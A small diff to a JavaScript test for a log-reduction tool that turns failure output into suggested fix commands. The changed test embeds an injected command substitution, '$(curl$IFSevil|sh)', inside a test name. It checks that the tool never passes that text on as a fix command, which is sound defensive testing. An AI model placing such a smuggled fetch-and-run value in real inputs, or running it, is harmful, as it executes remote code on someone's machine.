@@ -59,7 +59,7 @@ describe('reducing a log that shows a failure', () => {
   })
 
   it('never writes a command out of text that a log chose freely', () => {
-    const { fixes } = reduced('FAILED tests/test_a.py::test[$(curl${IFS}evil|sh)] - boom\n').diagnosis
+    const { fixes } = reduced('FAILED tests/test_a.py::test[$(curl$IFSevil|sh)] - boom\n').diagnosis
     expect(fixes.length).toBeGreaterThan(0)
     expect(JSON.stringify(fixes.map((fix) => fix.command))).not.toContain('curl')
   })
